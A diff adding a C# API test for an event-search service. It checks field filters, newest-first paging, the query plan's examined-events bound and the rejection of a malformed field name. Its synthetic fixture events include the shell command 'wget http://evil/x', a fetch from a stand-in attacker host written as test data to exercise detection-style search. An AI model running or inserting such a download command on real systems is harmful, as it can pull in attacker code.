@@ -156,6 +156,34 @@ public sealed class ApiTests(ServerFixture fixture)
     }
 
     [Fact]
+    public async Task Events_are_searched_by_any_field_newest_first_in_pages_that_cover_every_match_once()
+    {
+        using var client = Client();
+        // 120 events of one source; every tenth by root running wget, one of them at the oldest end.
+        var body = string.Join('\n', Enumerable.Range(0, 120).Select(i =>
+            $$"""{"id":"field-{{i}}","timestamp":{{NowMs - 600_000 + (i * 1000)}},"eventType":"shell","sourceIP":"198.51.100.88","user":"{{(i % 10 == 0 ? "root" : "user" + i)}}","cmd":{"line":"{{(i % 20 == 0 ? "wget http://evil/x" : "ls")}}"} }"""));
+        Assert.Equal(HttpStatusCode.OK, (await Api.PostAsync(client, body)).Response.StatusCode);
+        var range = $"sourceIP=198.51.100.88&from={Api.Rfc3339(NowMs - 700_000)}&to={Api.Rfc3339(NowMs)}";
+
+        var roots = await Api.QueryIdsAsync(client, range + "&field.user=ROOT&limit=4");
+        Assert.Equal(Enumerable.Range(0, 12).Select(i => $"field-{110 - (i * 10)}"), roots);
+        Assert.Equal(["field-100", "field-80", "field-60", "field-40", "field-20", "field-0"], await Api.QueryIdsAsync(client, range + "&field.user=root&field.cmd.line=wget*"));
+        Assert.Empty(await Api.QueryIdsAsync(client, range + "&field.user=nobody"));
+
+        // The plan says how many events were examined; a page that reached the bound says so and goes on.
+        var (_, first) = await Api.GetAsync(client, "v1/events?" + range + "&field.user=nobody&explain=true");
+        var plan = first.GetProperty("plan");
+        Assert.Equal(ServerFixture.MaxExaminedPerPage, plan.GetProperty("eventsExamined").GetInt64());
+        Assert.True(plan.GetProperty("examinedBound").GetBoolean());
+        Assert.Equal(0, first.GetProperty("events").GetArrayLength());
+        Assert.NotNull(first.GetProperty("next").GetString());
+
+        var (bad, problem) = await Api.GetAsync(client, "v1/events?field.a..b=x");
+        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
+        Assert.Contains("single dots", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task A_body_over_the_limit_is_refused_with_413_and_nothing_of_it_is_stored()
     {
         using var client = Client();
